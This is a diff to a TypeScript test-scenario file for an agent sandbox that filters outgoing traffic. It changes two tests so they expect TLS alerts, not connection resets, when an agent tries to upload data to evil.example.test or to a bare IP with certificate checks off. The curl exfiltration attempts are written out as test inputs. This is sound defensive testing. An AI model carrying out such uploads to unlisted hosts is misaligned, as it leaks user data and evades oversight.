@@ -216,11 +216,15 @@ export const SCENES: Scene[] = [
     id: 'unlisted-host',
     title: 'A host the policy does not list is cut off',
     about:
-      'The agent tries to upload notes to evil.example.test. The sandbox knows its address, but the name is not on the allow list: sandgate resets the connection after reading the ClientHello, before a single byte reaches the server.',
+      'The agent tries to upload notes to evil.example.test. The sandbox knows its address, but the name is not on the allow list: sandgate reads the ClientHello and answers with a TLS access_denied alert, which curl prints, before a single byte reaches the server.',
     async run(ctx) {
       const evil = ctx.server('evil');
       const r = await ctx.curl(['--data', 'notes=the quarterly numbers', `https://${evil.host}/upload`]);
-      ctx.check(r.code !== 0 && r.status === 0, 'the connection was reset; no response', `expected a reset, got HTTP ${r.status}`);
+      ctx.check(
+        r.status === 0 && /alert access denied/.test(r.stderr),
+        'refused with a TLS alert: "tlsv1 alert access denied"',
+        `expected a TLS access_denied alert, got HTTP ${r.status} (${r.stderr.trim()})`,
+      );
       const line = await ctx.audit((l) => isConn(l) && l.host === evil.host && l.decision === 'deny');
       ctx.check(line !== undefined, 'audit: denied, with the reason', `no "deny" audit line for ${evil.host}`);
       ctx.check(ctx.seen('evil', 'request').length === 0, `${evil.host} received nothing`, `${evil.host} received a request`);
@@ -253,11 +257,15 @@ export const SCENES: Scene[] = [
     id: 'ip-literal',
     title: 'TLS to a bare IP address is denied',
     about:
-      'The agent skips names altogether: HTTPS straight to an address, certificate checks off (-k). With no server name in the handshake there is nothing to hold against the allow list, so sandgate denies it.',
+      'The agent skips names altogether: HTTPS straight to an address, certificate checks off (-k). With no server name in the handshake there is nothing to hold against the allow list, so sandgate refuses it with an unrecognized_name alert.',
     async run(ctx) {
       const evil = ctx.server('evil');
       const r = await ctx.curl(['-k', `https://${evil.ip}/upload`]);
-      ctx.check(r.code !== 0 && r.status === 0, 'the connection was reset; no response', `expected a reset, got HTTP ${r.status}`);
+      ctx.check(
+        r.status === 0 && /unrecognized name/.test(r.stderr),
+        'refused with a TLS alert: "tlsv1 unrecognized name"',
+        `expected a TLS unrecognized_name alert, got HTTP ${r.status} (${r.stderr.trim()})`,
+      );
       const line = await ctx.audit((l) => isConn(l) && l.dst === `${evil.ip}:443` && l.decision === 'deny');
       ctx.check(line?.reason === 'no SNI', 'audit: denied, "no SNI"', `expected a "no SNI" denial, got ${String(line?.reason)}`);
       ctx.check(ctx.seen('evil', 'request').length === 0, `${evil.ip} received nothing`, `${evil.ip} received a request`);
